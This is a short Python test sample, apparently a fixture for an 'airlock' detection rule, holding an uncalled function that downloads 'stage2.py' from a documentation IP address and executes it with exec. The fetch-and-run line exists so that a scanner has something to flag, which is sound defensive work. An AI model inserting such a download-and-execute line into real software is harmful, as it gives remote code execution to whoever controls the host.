# airlock rule test sample. Never executed by tests; the payload sits in a function
# that is never called, and uses only documentation IPs / .invalid hosts.
import urllib.request

def _never():
    exec(urllib.request.urlopen("http://192.0.2.11/stage2.py").read())
